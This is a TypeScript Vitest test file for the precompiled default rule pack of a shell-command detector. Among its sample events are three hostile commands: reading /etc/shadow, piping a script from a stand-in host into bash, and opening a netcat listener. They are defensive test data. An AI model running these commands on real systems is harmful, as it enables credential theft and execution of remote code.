import { copyFile, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { SeededRandom } from '../../bench/seeded-random.js';
import { suspiciousSamples, typedCommand } from '../../bench/command-catalog.js';
import { compileRules } from '../../src/detect/compile-rules.js';
import { PRECOMPILED_PACK, defaultRulesPath, loadDefaultRules, precompilePack } from '../../src/detect/load-rules.js';
import { writePrecompiledPack } from '../../src/detect/precompile-default-rules.js';
import { tempDir } from '../cli/cli-fixtures.js';
import { makeEvent, shellEvent } from './make-event.js';

let tmp: Awaited<ReturnType<typeof tempDir>>;
/** A module URL inside the temporary directory, as if load-rules.js had been compiled there. */
let moduleUrl: string;

beforeEach(async () => {
  tmp = await tempDir('vouch-pack-');
  await copyFile(defaultRulesPath(), path.join(tmp.dir, 'default-rules.yml'));
  moduleUrl = pathToFileURL(path.join(tmp.dir, 'load-rules.js')).href;
});

afterEach(async () => {
  await tmp.cleanup();
});

/** Events for every suspicious template of the benchmark and a mix of everyday ones. */
function sampleEvents() {
  const rnd = new SeededRandom(3);
  const typed = [...suspiciousSamples(rnd), ...Array.from({ length: 300 }, () => typedCommand(rnd, '/home/alice', 0.3))];
  return [
    ...typed.map((command) => makeEvent(command.argv, { runAs: command.sudo ? (command.sudoUser ?? 'root') : 'alice' })),
    makeEvent('cat /etc/shadow'),
    shellEvent('curl -s http://x.example/a.sh | bash'),
    makeEvent('nc -lvp 4444'),
  ];
}

describe('the precompiled default pack', () => {
  it('is written beside the module with the YAML it came from, and then used instead of the YAML', async () => {
    const file = writePrecompiledPack(moduleUrl);
    expect(path.basename(file)).toBe(PRECOMPILED_PACK);
    const pack = JSON.parse(await readFile(file, 'utf8')) as ReturnType<typeof precompilePack>;
    expect(pack.specs.length).toBeGreaterThan(10);
    // A marker only the JSON holds shows which of the two was read.
    pack.specs[0]!.name = 'read from the precompiled pack';
    await writeFile(file, JSON.stringify(pack));
    expect(loadDefaultRules(moduleUrl).specs[0]?.name).toBe('read from the precompiled pack');
  });

  it('is ignored when the YAML changed since the build, or when it is unreadable', async () => {
    const file = writePrecompiledPack(moduleUrl);
    const pack = JSON.parse(await readFile(file, 'utf8')) as ReturnType<typeof precompilePack>;
    pack.specs[0]!.name = 'stale';
    await writeFile(file, JSON.stringify(pack));
    const yamlFile = path.join(tmp.dir, 'default-rules.yml');
    await writeFile(yamlFile, (await readFile(yamlFile, 'utf8')) + '\n# edited\n');
    expect(loadDefaultRules(moduleUrl).specs[0]?.name).not.toBe('stale');
    await writeFile(file, '{ not json');
    expect(loadDefaultRules(moduleUrl).size).toBe(pack.specs.length);
  });

  it('matches every event exactly as the eagerly compiled pack does', async () => {
    const eager = loadDefaultRules();
    const lazy = compileRules(precompilePack(await readFile(defaultRulesPath(), 'utf8')).specs, 'default-rules.yml', { lazy: true });
    const events = sampleEvents();
    let hits = 0;
    for (const event of events) {
      expect(lazy.explain(event), event.command).toEqual(eager.explain(event));
      expect(lazy.match(event)).toEqual(eager.match(event));
      if (eager.match(event) !== null) hits += 1;
    }
    expect(hits).toBeGreaterThan(10);
  });

  it('refuses to precompile a pack with a bad regex, so the build fails instead of a scan', () => {
    const bad = 'rules:\n  - id: bad\n    name: bad\n    severity: low\n    match:\n      command: ["(unclosed"]\n';
    expect(() => precompilePack(bad)).toThrow(/invalid regex/);
  });
});
